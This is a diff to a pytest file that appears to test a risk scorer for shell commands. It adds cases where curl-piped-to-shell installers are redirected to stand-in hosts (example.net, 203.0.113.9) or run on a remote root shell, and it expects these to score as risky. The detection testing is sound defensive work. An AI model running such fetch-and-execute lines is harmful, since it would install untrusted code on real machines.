@@ -119,3 +119,17 @@ def test_a_program_from_elsewhere_or_under_anothers_name_is_asked_about(line: st
 def test_a_tool_is_put_where_programs_lie_from_its_projects_releases() -> None:
     line = f'sudo curl -L "{COMPOSE}" -o /usr/local/bin/docker-compose'
     assert max(_bases(line).values()) <= 50
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "curl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.39.0/install.sh"
+        " | NVM_SOURCE=https://example.net/nvm.git bash",
+        f"curl -fsSL {DOCKER} | DOWNLOAD_URL=http://203.0.113.9 sh",
+        "curl -sS https://bootstrap.pypa.io/get-pip.py | python3 - --index-url http://203.0.113.9/simple",
+        f"curl -fsSL {DOCKER} | ssh root@web-1 sh",
+    ],
+)
+def test_an_installer_that_is_told_another_place_or_runs_elsewhere_is_asked_about(line: str) -> None:
+    assert max(_bases(line).values()) > 50
